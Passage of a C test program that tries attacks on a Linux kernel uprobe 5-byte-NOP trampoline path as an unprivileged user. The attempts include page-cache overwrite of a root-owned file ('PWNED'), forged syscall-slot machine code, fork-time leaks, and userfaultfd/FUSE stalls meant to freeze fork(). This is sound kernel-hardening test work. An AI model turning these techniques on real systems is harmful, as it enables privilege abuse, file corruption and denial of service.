// SPDX-License-Identifier: GPL-2.0
/*
 * wb-nop5-attack: attacks on the 5-byte-NOP uprobe path, each run the way an
 * unprivileged process would, each reporting whether it got anywhere.
 *
 * Usage: wb-nop5-attack MODE PROG FN_OFF SITE_OFF [ARG]
 *
 * PROG is a program with a USDT-style site (wb-demo), FN_OFF the file
 * offset of the function around it (wb_demo_nop5: takes i, returns 0 when
 * the registers were intact at the site) and SITE_OFF the file offset of
 * the 5-byte NOP, on which root has enabled a uprobe.  The attacks map
 * private copies of PROG's text at addresses they choose and call the
 * function there; each copy gets the breakpoint at mmap time, and its
 * first hit may turn the site into a jump to a trampoline page.
 * With WB_PROFILE (uprobe_profile) and WB_EVENT (the event's name) set,
 * the probe's hits are read before and after and must move only as the
 * attack's real calls say.
 *
 * Modes (each exits 0 when the attack got nowhere, 1 when it did, 2 on a
 * setup error; root starts it, the attack itself runs as uid 65534):
 *   pagecache VICTIM  the page-cache write: a root-owned 0644 file mapped
 *                     read-only where a jumping site was, then the range
 *                     with the trampoline replaced by a shared anonymous
 *                     mapping and written; VICTIM must read back unchanged
 *   syscall           the uprobe system call (336) from ordinary code:
 *                     must be killed by SIGILL
 *   forged            a slot of its own (the trampoline's code and a site
 *                     address) in an anonymous page: SIGILL, no hit
 *   seccomp           both of the above from a SECCOMP_MODE_STRICT task
 *   forkleak          a child that drops privileges after fork() looks in
 *                     its trampoline page for a site the parent optimizes
 *                     later: it must not see it
 *   dontfork          MADV_DONTFORK on the trampoline, then a forged slot
 *                     in the child where the trampoline was: no hit
 *   calls N           N calls in a copy, a fork() whose child moves the
 *                     copy (mremap()) and makes N more (a refused fork is
 *                     allowed: failure injection), N more in the parent;
 *                     prints the calls made and the site's bytes, and
 *                     checks hits = calls
 *   stall             a thread blocked on a userfaultfd page that nobody
 *                     serves and an mremap() of a range with a stale site
 *                     over such a page, while another process forks and
 *                     exits 200 times: that must finish within 60 s
 *   fusestall ENABLE  the same with a page of a FUSE file whose server
 *                     never answers a read where the jumping site was,
 *                     and root writing 1 then 0 to ENABLE (the enable file
 *                     of a second uprobe on PROG) beside the forks: a
 *                     registration waits for every address space that maps
 *                     PROG, with fork() held off, so a probe path that
 *                     waited on that page with the mmap_lock held would
 *                     stop every fork() on the machine
 *   fuseslot ENABLE   the same, with the site's text moved away (which
 *                     empties its slot's entry), "f" mapped where it was
 *                     and a thread sent into the slot: the system call's
 *                     lookup by address must not wait on "f" either
 *   charge ENABLE N   N processes in a new memory cgroup, each with its
 *                     site optimized, against the same with the probe
 *                     disabled (root writes ENABLE): the cgroup's kernel
 *                     memory must grow by at least the trampoline page of
 *                     each (exit 3: no memory cgroup in this kernel)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/fuse.h>
#include <linux/seccomp.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define PG		4096UL
#define NR_UPROBE	336
#define SLOT_SIZE	32
#define SLOT_SITE	24
/* far from everything a static program maps */
#define ARENA		0x100000000000UL

static const char *prog;
static unsigned long fn_off, site_off;

struct copy {
	char *base;
	size_t len;
	long (*fn)(long);
	unsigned char *site;
};

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	fputs("wb-nop5-attack: ", stdout);
	vprintf(fmt, ap);
	fputc('\n', stdout);
	fflush(stdout);
	va_end(ap);
}

static void drop_privileges(void)
{
	if (setgroups(0, NULL) || setresgid(65534, 65534, 65534) ||
	    setresuid(65534, 65534, 65534)) {
		perror("drop privileges");
		exit(2);
	}
}

/* Write @str to the file @path in one write(); 0 or -1. */
static int write_str(const char *path, const char *str)
{
	int fd = open(path, O_WRONLY), bad;

	if (fd < 0)
		return -1;
	bad = write(fd, str, strlen(str)) != (ssize_t)strlen(str);
	close(fd);
	return bad ? -1 : 0;
}

/* A private copy of PROG's text around the site, at @at (0: anywhere). */
static int copy_map(struct copy *c, unsigned long at)
{
	unsigned long pgoff = fn_off & ~(PG - 1);
	int fd = open(prog, O_RDONLY);
	void *p;

	if (fd < 0)
		return -1;
	c->len = ((site_off + 5 - pgoff) + PG - 1) & ~(PG - 1);
	p = mmap((void *)at, c->len, PROT_READ | PROT_EXEC,
		 MAP_PRIVATE | (at ? MAP_FIXED_NOREPLACE : 0), fd, pgoff);
	close(fd);
	if (p == MAP_FAILED || (at && p != (void *)at))
		return -1;
	c->base = p;
	c->fn = (long (*)(long))(void *)(c->base + (fn_off - pgoff));
	c->site = (unsigned char *)c->base + (site_off - pgoff);
	return 0;
}

static long copy_calls(struct copy *c, long n)
{
	long i, bad = 0;

	for (i = 1; i <= n; i++)
		bad += c->fn(i);
	return bad;
}

/* The [uprobes-nop5] page nearest to @near (0 if none). */
static unsigned long tramp_near(unsigned long near)
{
	unsigned long lo, hi, best = 0;
	char line[512];
	FILE *f = fopen("/proc/self/maps", "r");

	if (!f)
		return 0;
	while (fgets(line, sizeof(line), f)) {
		if (!strstr(line, "[uprobes-nop5]") ||
		    sscanf(line, "%lx-%lx", &lo, &hi) != 2)
			continue;
		if (!best || labs((long)(lo - near)) < labs((long)(best - near)))
			best = lo;
	}
	fclose(f);
	return best;
}

static long profile_hits(void)
{
	const char *path = getenv("WB_PROFILE"), *event = getenv("WB_EVENT");
	char line[512], name[256];
	unsigned long hits;
	FILE *f;

	if (!path || !event)
		return 0;
	f = fopen(path, "r");
	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "%*s %255s %lu", name, &hits) == 2 &&
		    !strcmp(name, event)) {
			fclose(f);
			return hits;
		}
	}
	fclose(f);
	return -1;
}

/* Run @fn in a child (which drops privileges first); its wait status. */
static int in_child(int (*fn)(void *), void *arg, int drop)
{
	int status;
	pid_t pid;

	fflush(stdout);
	pid = fork();
	if (pid < 0)
		return -1;
	if (!pid) {
		alarm(60);
		if (drop)
			drop_privileges();
		_exit(fn(arg));
	}
	if (waitpid(pid, &status, 0) != pid)
		return -1;
	return status;
}

static const char *status_str(int status)
{
	/* a few at once in one message */
	static char bufs[4][64];
	static int next;
	char *buf = bufs[next++ % 4];

	if (status < 0)
		return "no child";
	if (WIFSIGNALED(status))
		snprintf(buf, sizeof(bufs[0]), "killed by %s",
			 strsignal(WTERMSIG(status)));
	else
		snprintf(buf, sizeof(bufs[0]), "exit %d", WEXITSTATUS(status));
	return buf;
}

/* ---- pagecache ---- */

static const char *victim;

static int pagecache_child(void *arg)
{
	unsigned long X = ARENA, tramp, reserve_end, site_page;
	char *w;
	struct copy c;
	void *p;
	int fd, variant = *(int *)arg;

	fd = open(victim, O_RDONLY);
	if (fd < 0)
		return 2;
	/* the copy, a hole of one page after it, everything above reserved */
	if (copy_map(&c, X))
		return 2;
	reserve_end = X + (1UL << 31) + (1UL << 21);
	p = mmap((void *)(X + c.len + PG), reserve_end - (X + c.len + PG),
		 PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE |
		 MAP_FIXED_NOREPLACE, -1, 0);
	if (p == MAP_FAILED)
		return 2;
	/* below as well, so that the only free page in reach is the hole */
	p = mmap((void *)(X - (1UL << 31) - (1UL << 21)), (1UL << 31) + (1UL << 21),
		 PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE |
		 MAP_FIXED_NOREPLACE, -1, 0);
	if (p == MAP_FAILED)
		return 2;
	if (copy_calls(&c, 3))
		return 2;
	tramp = tramp_near(X);
	say("pagecache %d: site %02x, trampoline %s", variant, c.site[0],
	    tramp == X + c.len ? "right after the text" :
	    tramp ? "elsewhere" : "none");
	if (c.site[0] != 0xe9 || tramp != X + c.len)
		return 3;	/* nothing to attack here */
	/* the victim where the site's page was */
	site_page = (unsigned long)c.site & ~(PG - 1);
	if (munmap(c.base, c.len))
		return 2;
	p = mmap((void *)site_page, PG, PROT_READ,
		 (variant ? MAP_PRIVATE : MAP_SHARED) | MAP_FIXED, fd, 0);
	if (p == MAP_FAILED)
		return 2;
	/* the whole range, trampoline included, replaced in one call */
	p = mmap((void *)X, c.len + PG, PROT_READ | PROT_WRITE,
		 MAP_SHARED | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
	if (p == MAP_FAILED) {
		say("pagecache %d: replacing the range: %s", variant,
		    strerror(errno));
	} else {
		say("pagecache %d: range replaced, writing", variant);
		w = (char *)site_page;
		memcpy(w, "PWNED-by-uid-65534", 18);
		memcpy(w + (c.site - (unsigned char *)site_page),
		       "PWNED", 5);
	}
	/* the trampoline alone, and moved */
	if (munmap((void *)tramp, PG))
		say("pagecache %d: munmap of the trampoline: %s", variant,
		    strerror(errno));
	else
		say("pagecache %d: munmap of the trampoline: done", variant);
	return 0;
}

static int read_all(const char *path, char *buf, size_t len)
{
	int fd = open(path, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = pread(fd, buf, len, 0);
	close(fd);
	return n == (ssize_t)len ? 0 : -1;
}

static int attack_pagecache(const char *path)
{
	static char before[PG], after[PG];
	int variant, status, hit = 0;

	victim = path;
	if (read_all(victim, before, PG))
		return 2;
	for (variant = 0; variant < 2; variant++) {
		status = in_child(pagecache_child, &variant, 1);
		say("pagecache %d: attacker %s", variant, status_str(status));
		if (read_all(victim, after, PG))
			return 2;
		if (memcmp(before, after, PG)) {
			say("pagecache %d: VICTIM CHANGED: starts with %.18s",
			    variant, after);
			hit = 1;
		} else {
			say("pagecache %d: victim unchanged", variant);
		}
	}
	return hit;
}

/* ---- the system call, forged slots, seccomp ---- */

static int call_uprobe(void *arg)
{
	long ret;

	(void)arg;
	ret = syscall(NR_UPROBE);
	say("syscall returned %ld (%s)", ret, ret < 0 ? strerror(errno) : "");
	return 3;
}

static const unsigned char slot_code[SLOT_SITE] = {
	0x48, 0x8d, 0x64, 0x24, 0x80,	/* lea -0x80(%rsp),%rsp */
	0x50, 0x51, 0x41, 0x53,		/* push %rax, %rcx, %r11 */
	0xb8, NR_UPROBE & 0xff, NR_UPROBE >> 8, 0, 0, /* mov $336,%eax */
	0x0f, 0x05,			/* syscall */
	0x0f, 0x0b,			/* ud2 */
	0xcc, 0xcc, 0xcc, 0xcc, 0xcc, 0xcc,
};

/* Write a slot for @site at @slot and jump to it; returns only if refused. */
static int run_forged_slot(unsigned char *slot, unsigned long site)
{
	memcpy(slot, slot_code, sizeof(slot_code));
	memcpy(slot + SLOT_SITE, &site, sizeof(site));
	/*
	 * As a site would reach it.  Past our red zone first: should the call
	 * be served, it comes back through the rest of the probed function,
	 * whose ret lands after this call.
	 */
	asm volatile("sub $128, %%rsp\n\t"
		     "call *%0\n\t"
		     "add $128, %%rsp"
		     : : "r" (slot)
		     : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10",
		       "r11", "memory", "cc");
	return 3;
}

static int forged_child(void *arg)
{
	int strict = *(int *)arg;
	struct copy c;
	void *page;

	/* a copy of the text, so that the site's address is a probed one */
	if (copy_map(&c, 0))
		return 2;
	page = mmap(NULL, PG, PROT_READ | PROT_WRITE | PROT_EXEC,
		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED)
		return 2;
	if (strict && prctl(PR_SET_SECCOMP, SECCOMP_MODE_STRICT))
		return 2;
	return run_forged_slot(page, (unsigned long)c.site);
}

static int strict_syscall_child(void *arg)
{
	(void)arg;
	if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_STRICT))
		return 2;
	syscall(NR_UPROBE);
	/* strict mode allows exit only through exit(2) itself */
	syscall(SYS_exit, 3);
	return 3;
}

/* One refused call: killed by SIGILL, and no hit. */
static int expect_sigill(const char *what, int (*fn)(void *), void *arg)
{
	long before = profile_hits(), after;
	int status = in_child(fn, arg, 1), bad = 0;

	after = profile_hits();
	say("%s: %s, %ld hits", what, status_str(status), after - before);
	if (status < 0 || !WIFSIGNALED(status) || WTERMSIG(status) != SIGILL)
		bad = 1;
	if (after != before)
		bad = 1;
	return bad;
}

static int attack_syscall(void)
{
	return expect_sigill("syscall", call_uprobe, NULL);
}

static int attack_forged(void)
{
	int strict = 0;

	return expect_sigill("forged slot", forged_child, &strict);
}

static int attack_seccomp(void)
{
	int strict = 1, bad;

	bad = expect_sigill("seccomp strict: syscall", strict_syscall_child,
			    NULL);
	bad |= expect_sigill("seccomp strict: forged slot", forged_child,
			     &strict);
	return bad;
}

/* ---- forkleak ---- */

static int attack_forkleak(void)
{
	struct copy a, b;
	int to_child[2], to_parent[2], status;
	unsigned long tramp, want, i;
	char ch = 0;
	pid_t pid;

	if (copy_map(&a, ARENA) || copy_map(&b, ARENA + (1UL << 24)))
		return 2;
	if (copy_calls(&a, 2))
		return 2;
	tramp = tramp_near(ARENA);
	if (!tramp) {
		say("forkleak: no trampoline: nothing shared to look at");
		return 0;
	}
	if (pipe(to_child) || pipe(to_parent))
		return 2;
	want = (unsigned long)b.site;
	fflush(stdout);
	pid = fork();
	if (pid < 0)
		return 2;
	if (!pid) {
		const unsigned long *q = (const unsigned long *)tramp;
		int seen = 0;

		alarm(60);
		drop_privileges();
		/* let the parent optimize its second site, then look */
		if (write(to_parent[1], &ch, 1) != 1 ||
		    read(to_child[0], &ch, 1) != 1)
			_exit(2);
		for (i = 0; i < PG / sizeof(*q); i++)
			seen |= q[i] == want;
		say("forkleak: child %s the parent's later site",
		    seen ? "SEES" : "does not see");
		_exit(seen);
	}
	if (read(to_parent[0], &ch, 1) != 1)
		return 2;
	if (copy_calls(&b, 2))
		return 2;
	say("forkleak: parent optimized its second site: %02x", b.site[0]);
	if (write(to_child[1], &ch, 1) != 1)
		return 2;
	if (waitpid(pid, &status, 0) != pid)
		return 2;
	say("forkleak: child %s", status_str(status));
	return !(WIFEXITED(status) && WEXITSTATUS(status) == 0);
}

/* ---- dontfork ---- */

static int attack_dontfork(void)
{
	unsigned long tramp, site;
	struct copy a;
	long before, after;
	int status, ret;
	pid_t pid;

	if (copy_map(&a, ARENA) || copy_calls(&a, 2))
		return 2;
	tramp = tramp_near(ARENA);
	if (!tramp) {
		say("dontfork: no trampoline");
		return 0;
	}
	ret = madvise((void *)tramp, PG, MADV_DONTFORK);
	say("dontfork: MADV_DONTFORK on the trampoline: %s",
	    ret ? strerror(errno) : "done");
	site = (unsigned long)a.site;
	before = profile_hits();
	fflush(stdout);
	pid = fork();
	if (pid < 0)
		return 2;
	if (!pid) {
		void *p;

		alarm(60);
		drop_privileges();
		/* our own page where the trampoline was, a slot for the site */
		p = mmap((void *)tramp, PG, PROT_READ | PROT_WRITE | PROT_EXEC,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
		if (p == MAP_FAILED) {
			say("dontfork: child cannot map over the trampoline: %s",
			    strerror(errno));
			_exit(0);
		}
		_exit(run_forged_slot(p, site));
	}
	if (waitpid(pid, &status, 0) != pid)
		return 2;
	after = profile_hits();
	say("dontfork: child %s, %ld hits", status_str(status), after - before);
	return after != before;
}

/* ---- calls ---- */

/* Move @c's text to a free range the kernel picks (near the rest). */
static int copy_move(struct copy *c)
{
	char *to = mmap(NULL, c->len, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS,
			-1, 0);
	char *p;

	if (to == MAP_FAILED)
		return -1;
	p = mremap(c->base, c->len, c->len, MREMAP_MAYMOVE | MREMAP_FIXED, to);
	if (p != to)
		return -1;
	c->fn = (long (*)(long))(void *)(p + ((unsigned long)c->fn -
					   (unsigned long)c->base));
	c->site = (unsigned char *)p + (c->site - (unsigned char *)c->base);
	c->base = p;
	return 0;
}

static int attack_calls(long n)
{
	long before = profile_hits(), calls = 0, bad = 0, after;
	int status, forkerr = 0;
	struct copy c;
	pid_t pid;

	if (copy_map(&c, 0))
		return 2;
	bad += copy_calls(&c, n);
	calls += n;
	fflush(stdout);
	pid = fork();
	if (pid < 0) {
		forkerr = errno;
	} else if (!pid) {
		alarm(60);
		/* the child's text moves before its calls: a jump that the
		 * move left in place would now land anywhere */
		_exit(copy_move(&c) || copy_calls(&c, n) != 0);
	} else {
		if (waitpid(pid, &status, 0) != pid || !WIFEXITED(status) ||
		    WEXITSTATUS(status))
			bad++;
		calls += n;
	}
	bad += copy_calls(&c, n);
	calls += n;
	after = profile_hits();
	say("calls: %ld calls, %ld bad, %ld hits, site %02x, fork %s", calls,
	    bad, getenv("WB_PROFILE") ? after - before : calls, c.site[0],
	    forkerr ? strerror(forkerr) : "done");
	if (bad || (getenv("WB_PROFILE") && after - before != calls))
		return 1;
	/* a jump goes to a trampoline page; otherwise int3 or the NOP */
	if (c.site[0] == 0xe9) {
		int32_t rel;
		unsigned long dest;

		memcpy(&rel, c.site + 1, 4);
		dest = (unsigned long)c.site + 5 + rel;
		if (tramp_near(dest) != (dest & ~(PG - 1))) {
			say("calls: the site jumps to %#lx, not a trampoline",
			    dest);
			return 1;
		}
	} else if (c.site[0] != 0xcc && c.site[0] != 0x0f) {
		return 1;
	}
	return 0;
}

/* ---- charge ---- */

#define CG_ROOT		"/sys/fs/cgroup"

/* The field @key of the memory.stat of cgroup @cg, in bytes; -1 if none. */
static long long cg_stat(const char *cg, const char *key)
{
	char path[256], name[64];
	long long val, ret = -1;
	FILE *f;

	snprintf(path, sizeof(path), "%s/memory.stat", cg);
	f = fopen(path, "r");
	if (!f)
		return -1;
	while (fscanf(f, "%63s %lld", name, &val) == 2) {
		if (!strcmp(name, key)) {
			ret = val;
			break;
		}
	}
	fclose(f);
	return ret;
}

/* One process of a charge run: hit the site, say how it looks, wait. */
static void charge_member(int ready, int hold)
{
	struct copy c;
	char ch;

	if (copy_map(&c, 0) || copy_calls(&c, 3))
		ch = 'x';
	else
		ch = c.site[0] == 0xe9 ? 'j' : 'n';
	if (write(ready, &ch, 1) != 1)
		_exit(2);
	/* until root lets go (end of file) */
	while (read(hold, &ch, 1) > 0)
		;
	_exit(0);
}

/*
 * @n processes of uid 65534 in the new memory cgroup @cg, each with a
 * private copy of the text whose site it hit three times; while they all
 * live, the cgroup's kernel memory other than page tables (bytes), or -1.
 * @jumps gets how many of the sites were jumps.
 */
static long long charge_run(const char *cg, int n, int *jumps)
{
	int ready[2], hold[2], i, bad = 0;
	long long kmem = -1;
	char path[256], ch;
	pid_t leader;

	*jumps = 0;
	if ((mkdir(cg, 0755) && errno != EEXIST) || pipe(ready) || pipe(hold))
		return -1;
	snprintf(path, sizeof(path), "%s/cgroup.procs", cg);
	fflush(stdout);
	leader = fork();
	if (leader < 0)
		return -1;
	if (!leader) {
		alarm(120);
		close(ready[0]);
		close(hold[1]);
		/* "0" moves the writer itself */
		if (write_str(path, "0"))
			_exit(2);
		drop_privileges();
		for (i = 0; i < n; i++) {
			pid_t pid = fork();

			if (pid < 0)
				_exit(2);
			if (!pid)
				charge_member(ready[1], hold[0]);
		}
		close(ready[1]);
		close(hold[0]);
		while (wait(NULL) > 0)
			;
		_exit(0);
	}
	close(ready[1]);
	close(hold[0]);
	for (i = 0; i < n; i++) {
		if (read(ready[0], &ch, 1) != 1 || ch == 'x')
			bad = 1;
		*jumps += ch == 'j';
	}
	if (!bad) {
		/* memcg statistics are flushed every 2 s */
		sleep(3);
		kmem = cg_stat(cg, "kernel") - cg_stat(cg, "pagetables");
	}
	close(hold[1]);
	close(ready[0]);
	waitpid(leader, NULL, 0);
	for (i = 0; i < 50 && rmdir(cg) && errno == EBUSY; i++)
		usleep(100000);
	return kmem;
}

/*
 * Every allocation the nop5 path makes for a process (its state, its
 * trampoline page and the page's table) is charged to the process's memory
 * cgroup: with the probe enabled, @n processes that each had their site
 * optimized must show at least a page each more kernel memory than the
 * same processes with the probe disabled.  The trampoline page alone is a
 * page; uncharged, what remains of the difference is the mm core's own
 * (a VMA, an anon_vma: well under a page).  3: no memory cgroup here.
 */
static int attack_charge(const char *enable, int n)
{
	long long on, off;
	int jon, joff;

	if (access(CG_ROOT "/cgroup.controllers", F_OK))
		mount("none", CG_ROOT, "cgroup2", 0, NULL);
	if (write_str(CG_ROOT "/cgroup.subtree_control", "+memory")) {
		say("charge: no memory controller (CONFIG_MEMCG) here");
		return 3;
	}
	if (write_str(enable, "1"))
		return 2;
	on = charge_run(CG_ROOT "/wb-nop5-on", n, &jon);
	if (write_str(enable, "0"))
		return 2;
	off = charge_run(CG_ROOT "/wb-nop5-off", n, &joff);
	if (write_str(enable, "1"))
		return 2;
	if (on < 0 || off < 0)
		return 2;
	say("charge: %d processes, %d and %d sites jumping: kernel memory %lld KiB with the probe, %lld KiB without, %lld bytes a process",
	    n, jon, joff, on >> 10, off >> 10, (on - off) / n);
	if (jon != n || joff)
		return 2;
	return on - off >= (long long)n * (long long)PG ? 0 : 1;
}

/* ---- stall ---- */

static void *uffd_toucher(void *arg)
{
	/* blocks until the page is served, which never happens */
	return (void *)(long)*(volatile char *)arg;
}

static int attack_stall(void)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg = { 0 };
	struct timespec t0, t1;
	struct copy c;
	pthread_t th;
	char *anon;
	int uffd, i, status, memfd;
	pid_t forker;
	void *p;

	drop_privileges();
	if (copy_map(&c, ARENA) || copy_calls(&c, 2))
		return 2;
	/* the jumping site's text goes; shmem text with a missing page there */
	memfd = memfd_create("wb-nop5-stall", 0);
	if (memfd < 0 || ftruncate(memfd, c.len))
		return 2;
	if (munmap(c.base, c.len))
		return 2;
	p = mmap(c.base, c.len, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED,
		 memfd, 0);
	if (p == MAP_FAILED)
		return 2;
	uffd = syscall(SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY);
	if (uffd < 0) {
		say("stall: no userfaultfd: %s", strerror(errno));
		return 2;
	}
	if (ioctl(uffd, UFFDIO_API, &api))
		return 2;
	reg.range.start = (unsigned long)c.base;
	reg.range.len = c.len;
	reg.mode = UFFDIO_REGISTER_MODE_MISSING;
	if (ioctl(uffd, UFFDIO_REGISTER, &reg))
		say("stall: shmem text not registered: %s", strerror(errno));
	/* an anonymous page too, which a thread of ours waits on for ever */
	anon = mmap(NULL, PG, PROT_READ | PROT_WRITE,
		    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	reg.range.start = (unsigned long)anon;
	reg.range.len = PG;
	if (anon == MAP_FAILED || ioctl(uffd, UFFDIO_REGISTER, &reg))
		return 2;
	pthread_create(&th, NULL, uffd_toucher, anon);

	clock_gettime(CLOCK_MONOTONIC, &t0);
	forker = fork();
	if (forker < 0)
		return 2;
	if (!forker) {
		alarm(120);
		for (i = 0; i < 200; i++) {
			pid_t k = fork();

			if (k < 0)
				_exit(2);
			if (!k)
				_exit(0);
			waitpid(k, NULL, 0);
		}
		_exit(0);
	}
	/* the stale site's range moves while the forks run */
	p = mremap(c.base, c.len, c.len, MREMAP_MAYMOVE | MREMAP_FIXED,
		   (void *)(ARENA + (1UL << 32)));
	say("stall: mremap of the stale site's range: %s",
	    p == MAP_FAILED ? strerror(errno) : "done");
	if (waitpid(forker, &status, 0) != forker)
		return 2;
	clock_gettime(CLOCK_MONOTONIC, &t1);
	say("stall: 200 forks and exits beside it: %s in %ld s",
	    status_str(status), (long)(t1.tv_sec - t0.tv_sec));
	/* the thread stays blocked; exiting ends it */
	return !(WIFEXITED(status) && !WEXITSTATUS(status) &&
		 t1.tv_sec - t0.tv_sec < 60);
}

/* ---- fusestall ---- */

/*
 * A FUSE server of the least kind: one directory with one file "f" of
 * 64 KiB, served from memory, except that a READ is never answered.  A
 * fault on a page of "f" waits until the connection is aborted.
 */
#define FUSE_DIR	"/tmp/wb-nop5-fuse"
#define FUSE_FILE	FUSE_DIR "/f"
#define FUSE_BUF	(128 * 1024 + 4096)

static int fuse_fd = -1;
static volatile int fuse_reads;

static void fuse_reply(const struct fuse_in_header *in, int error,
		       const void *arg, size_t len)
{
	char buf[sizeof(struct fuse_out_header) + 256];
	struct fuse_out_header out = {
		.len = sizeof(out) + (error ? 0 : len),
		.error = error,
		.unique = in->unique,
	};

	memcpy(buf, &out, sizeof(out));
	if (!error && len)
		memcpy(buf + sizeof(out), arg, len);
	if (write(fuse_fd, buf, out.len) < 0 && errno != ENOENT)
		say("fusestall: server reply: %s", strerror(errno));
}

static void fuse_fill_attr(struct fuse_attr *a, uint64_t node)
{
	memset(a, 0, sizeof(*a));
	a->ino = node;
	if (node == FUSE_ROOT_ID) {
		a->mode = S_IFDIR | 0755;
		a->nlink = 2;
	} else {
		a->mode = S_IFREG | 0755;
		a->nlink = 1;
		a->size = 64 * 1024;
		a->blocks = a->size / 512;
	}
	a->blksize = PG;
}

static void *fuse_server(void *unused)
{
	char *buf = malloc(FUSE_BUF);
	const struct fuse_in_header *in = (const void *)buf;
	const void *arg = buf + sizeof(*in);
	ssize_t n;

	while (buf) {
		n = read(fuse_fd, buf, FUSE_BUF);
		if (n < 0 && (errno == EINTR || errno == ENOENT))
			continue;
		if (n < (ssize_t)sizeof(*in))
			break;	/* aborted or unmounted */
		switch (in->opcode) {
		case FUSE_INIT: {
			const struct fuse_init_in *ii = arg;
			struct fuse_init_out io = {
				.major = FUSE_KERNEL_VERSION,
				.minor = FUSE_KERNEL_MINOR_VERSION,
				.max_readahead = ii->max_readahead,
				.max_background = 16,
				.congestion_threshold = 12,
				.max_write = PG,
				.time_gran = 1,
			};
			fuse_reply(in, 0, &io, sizeof(io));
			break;
		}
		case FUSE_LOOKUP: {
			struct fuse_entry_out eo = {
				.nodeid = 2, .generation = 1,
				.entry_valid = 3600, .attr_valid = 3600,
			};

			if (in->nodeid != FUSE_ROOT_ID || strcmp(arg, "f")) {
				fuse_reply(in, -ENOENT, NULL, 0);
				break;
			}
			fuse_fill_attr(&eo.attr, 2);
			fuse_reply(in, 0, &eo, sizeof(eo));
			break;
		}
		case FUSE_GETATTR: {
			struct fuse_attr_out ao = { .attr_valid = 3600 };

			fuse_fill_attr(&ao.attr, in->nodeid);
			fuse_reply(in, 0, &ao, sizeof(ao));
			break;
		}
		case FUSE_OPEN: {
			struct fuse_open_out oo = { .fh = 1 };

			fuse_reply(in, 0, &oo, sizeof(oo));
			break;
		}
		case FUSE_READ:
			fuse_reads++;	/* and never answered */
			break;
		case FUSE_FLUSH:
		case FUSE_RELEASE:
			fuse_reply(in, 0, NULL, 0);
			break;
		case FUSE_FORGET:
		case FUSE_BATCH_FORGET:
		case FUSE_INTERRUPT:
			break;
		default:
			fuse_reply(in, -ENOSYS, NULL, 0);
		}
	}
	free(buf);
	return NULL;
}

/* Mount the server's file system on FUSE_DIR (as root). */
static int fuse_start(pthread_t *th, char *abort_path, size_t len)
{
	char opts[128];
	struct stat st;

	mkdir(FUSE_DIR, 0755);
	fuse_fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	if (fuse_fd < 0) {
		say("fusestall: /dev/fuse: %s", strerror(errno));
		return -1;
	}
	snprintf(opts, sizeof(opts),
		 "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other",
		 fuse_fd);
	if (mount("wb-nop5", FUSE_DIR, "fuse", MS_NOSUID | MS_NODEV, opts)) {
		say("fusestall: mount: %s", strerror(errno));
		return -1;
	}
	pthread_create(th, NULL, fuse_server, NULL);
	if (stat(FUSE_DIR, &st))
		return -1;
	/* the connection's control file, to end the stall at the end */
	mkdir("/sys/fs/fuse/connections", 0755);
	mount("fusectl", "/sys/fs/fuse/connections", "fusectl", 0, NULL);
	snprintf(abort_path, len, "/sys/fs/fuse/connections/%u/abort",
		 (unsigned int)minor(st.st_dev));
	return access(abort_path, W_OK);
}

static void fuse_stop(pthread_t th, const char *abort_path)
{
	if (write_str(abort_path, "1"))
		say("fusestall: abort: %s", strerror(errno));
	umount2(FUSE_DIR, MNT_DETACH);
	pthread_join(th, NULL);
	close(fuse_fd);
}

struct fuse_attacker {
	int ready;		/* written once the stall is set up */
	int done;		/* read: EOF when the parent is done */
	int done_w;		/* its other end, the parent's */
	int slot;		/* the fuseslot variant */
};

static void *slot_caller(void *slot)
{
	/* enters the slot as the jump would; never comes back */
	((void (*)(void))slot)();
	return NULL;
}

/*
 * The attacker, as uid 65534: a site made to jump, then either (fusestall)
 * its text replaced by "f" and the range moved, or (fuseslot) the text
 * moved away, "f" mapped where it was and a thread sent into the slot,
 * whose entry the move emptied.  It stays until the parent is done, so
 * that the registration visits its address space.
 */
static int fusestall_child(struct fuse_attacker *a)
{
	unsigned long slot;
	struct copy c, keep;
	pthread_t th;
	char msg = 'r';
	int32_t rel;
	int fd;
	void *p;

	close(a->done_w);
	drop_privileges();
	/* a second copy keeps PROG mapped: the registration visits this mm */
	if (copy_map(&c, ARENA) || copy_calls(&c, 2) ||
	    copy_map(&keep, ARENA + (1UL << 24)))
		return 2;
	if (c.site[0] != 0xe9) {
		say("fusestall: the site was not optimized (%02x)", c.site[0]);
		return 2;
	}
	memcpy(&rel, c.site + 1, 4);
	slot = (unsigned long)c.site + 5 + rel;
	fd = open(FUSE_FILE, O_RDONLY);
	if (fd < 0) {
		say("fusestall: %s: %s", FUSE_FILE, strerror(errno));
		return 2;
	}
	if (a->slot) {
		p = mremap(c.base, c.len, c.len, MREMAP_MAYMOVE | MREMAP_FIXED,
			   (void *)(ARENA + (1UL << 32)));
		if (p == MAP_FAILED)
			return 2;
	} else if (munmap(c.base, c.len)) {
		return 2;
	}
	p = mmap(c.base, c.len, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED,
